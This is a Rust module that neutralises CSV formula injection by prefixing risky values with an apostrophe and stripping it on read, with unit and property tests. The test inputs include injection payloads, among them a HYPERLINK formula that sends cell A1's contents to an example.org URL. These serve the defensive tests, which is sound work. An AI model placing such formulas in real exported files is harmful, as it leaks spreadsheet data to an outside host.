//! The apostrophe by which a text in a CSV file stays a text.
//!
//! Whoever opens a CSV file in a spreadsheet lets it guess what each value is. A value that begins with
//! `=`, `+`, `-`, `@`, a tab, a return or a line feed, or with the full-width form of one of these,
//! may be run as a formula, whoever wrote it: see *CSV Injection* of the OWASP community pages, which
//! give the remedy, an apostrophe in front. Digits become a number, of which fifteen are kept and no
//! leading zero, or a date; an identity number is lost that way, so it gets one as well. Reading takes
//! the apostrophe off again, so that a file that was written and read holds what it held.

use std::borrow::Cow;

use crate::domain::cleaning::plain;

/// The text as it stands in a CSV file.
pub(crate) fn guarded(text: &str) -> Cow<'_, str> {
    if is_guessed(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text that [`guarded`] had.
pub(crate) fn unguarded(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(bare) if is_guessed(bare) => bare,
        _ => text,
    }
}

/// Whether a spreadsheet would take it for something else than a text. Apostrophes in front do not
/// count: so what begins with one gets another, and loses only that.
fn is_guessed(text: &str) -> bool {
    let bare = text.trim_start_matches('\'');
    // Spreadsheets pass over blanks, and read full-width characters as the plain ones.
    let seen = plain(bare);
    bare.starts_with(['\t', '\r', '\n'])
        || seen.starts_with(['=', '+', '-', '@'])
        || is_reckoned(&seen)
}

/// Whether it is a number or a day that would not be shown, or saved, as it was written.
fn is_reckoned(seen: &str) -> bool {
    let mut digits = 0_usize;
    let mut marked = false;
    for c in seen.chars() {
        match c {
            '0'..='9' => digits = digits.saturating_add(1),
            ' ' | '.' | ',' | ':' | '/' | '-' | '+' | 'e' | 'E' | '%' | '年' | '月' | '日' => {
                marked = true;
            }
            _ => return false,
        }
    }
    let kept = !marked && digits <= SHOWN_DIGITS && (digits == 1 || !seen.starts_with('0'));
    digits > 0 && !kept
}

/// A spreadsheet shows a longer number with an exponent.
const SHOWN_DIGITS: usize = 11;

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_would_be_run_or_reckoned_gets_an_apostrophe() {
        for text in [
            "=1+1",
            "=HYPERLINK(\"http://example.org/?\"&A1,\"点我\")",
            "+1",
            "-1",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\tx",
            "\rx",
            "\nx",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "  =1+1",
            "\u{3000}＝1",
            "\u{feff}=1",
            "'=1+1",
            "''=1+1",
            "990001199001010021",
            "９９０００１１９９００１０１００２１",
            "350582104000",
            "0595",
            "3-2",
            "2026年10月8日",
            "1E5",
        ] {
            assert_eq!(guarded(text), format!("'{text}"), "{text}");
        }
    }

    #[test]
    fn other_texts_stay_as_they_are() {
        for text in [
            "",
            "测试甲",
            "99000119900101002X",
            "19900000000",
            "20",
            "0",
            "'",
            "''",
            "'90年代",
            "a=b",
            "3-2号",
            "e",
            "01010101-0101-8101-8000-0000000000a2",
        ] {
            assert_eq!(guarded(text), text, "{text}");
            assert_eq!(unguarded(text), text, "{text}");
        }
    }

    proptest! {
        #[test]
        fn what_was_guarded_is_had_back(text in "['=+\\-@＝ \t\r\n0-9０a甲]{0,8}|.{0,20}") {
            let written = guarded(&text);
            prop_assert_eq!(unguarded(&written), &text);
        }
    }
}
